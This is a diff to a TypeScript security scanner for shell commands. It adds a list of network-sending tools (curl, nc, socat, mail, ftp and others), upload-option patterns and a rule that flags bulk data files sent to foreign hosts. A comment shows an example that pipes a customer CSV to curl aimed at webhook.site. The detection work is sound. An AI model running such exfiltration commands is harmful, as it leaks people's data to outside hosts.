@@ -21,7 +21,8 @@ import {
 } from './foreign-destinations.ts';
 import { sensitiveFile } from './paths.ts';
 import { secretFile } from './secret-files.ts';
-import type { RuleContext } from './shell-rule-context.ts';
+import { uploadedFile, type RuleContext } from './shell-rule-context.ts';
+import { printsFiles } from './shell-secret-reads.ts';
 import { hasFlag, optionValues, parseOptions } from './shell-options.ts';
 import type { Word } from './shell-words.ts';
 import { commandName } from './shell-wrappers.ts';
@@ -142,9 +143,61 @@ const SSH_VALUE_OPTIONS = new Set([
   '-B',
 ]);
 
+/** Commands that send what they are given (files, their input) to the host among their arguments. */
+const NETWORK_SENDERS = new Set([
+  'curl',
+  'wget',
+  'wget2',
+  'xh',
+  'http',
+  'https',
+  'nc',
+  'ncat',
+  'netcat',
+  'socat',
+  'telnet',
+  'mail',
+  'mailx',
+  'mutt',
+  'neomutt',
+  'sendmail',
+  's-nail',
+  'ftp',
+  'tftp',
+  'lftp',
+]);
+/** Options of senders whose value is a file sent (`-T f`, `--upload-file f`, mail's `-a f`). */
+const SENT_FILE_OPTION = /^(?:-T|--upload-file|--post-file|--body-file|-a|-A|--attach)$/;
+/** Archivers and compressors: what they read, their output carries. */
+const PACKERS = new Set(['tar', 'gzip', 'zip', 'bzip2', 'xz', 'zstd', '7z', 'pigz']);
+
+/** A sender of records in bulk to a foreign host is critical; the host is remembered for the pipeline rules. */
+function networkSenderRule(c: RuleContext, texts: readonly string[]): void {
+  const target = texts.find((text) => foreignDestination(text.replace(/^-\w*=/, '')) !== undefined);
+  if (target === undefined) return;
+  const where = `${foreignDestination(target.replace(/^-\w*=/, ''))} ${quote(target)}`;
+  c.summary.foreignHost = where;
+  const sent: string[] = [];
+  texts.forEach((text, i) => {
+    const file = uploadedFile(text) ?? /^--(?:upload|post|body)-file=(.+)$/.exec(text)?.[1];
+    if (file !== undefined) sent.push(file);
+    else if (i > 0 && SENT_FILE_OPTION.test(texts[i - 1])) sent.push(text);
+  });
+  for (const redirect of c.site.redirs) if (redirect.op === 56) sent.push(redirect.target.text);
+  const bulk = sent.find((file) => bulkDataFile(file) !== undefined);
+  if (bulk !== undefined) c.scan.add('critical', `shell: sends a ${bulkDataFile(bulk)} ${quote(bulk)} to a ${where} (${c.name})`);
+}
+
 /** A copy of data to a foreign place is critical. */
 export function foreignCopyRule(c: RuleContext): void {
   const texts = c.args.map((word) => word.text);
+  if (NETWORK_SENDERS.has(c.name)) return networkSenderRule(c, texts);
+  // `cat exports/customers.csv | curl … https://webhook.site/…`: what a reader or packer prints is the records.
+  if (printsFiles(c.name) || PACKERS.has(c.name)) {
+    const bulk = texts.find((text) => !text.startsWith('-') && bulkDataFile(text) !== undefined);
+    if (bulk !== undefined) c.summary.readsBulk = `${bulkDataFile(bulk)} ${quote(bulk)}`;
+    return;
+  }
   const subcommand = COPY_SUBCOMMANDS[c.name];
   if (!DIRECT_COPIERS.has(c.name) && (subcommand === undefined || !texts.slice(0, 3).some((text) => subcommand.test(text)))) return;
   const parsed = parseOptions(c.args, valueOptions(c.name));
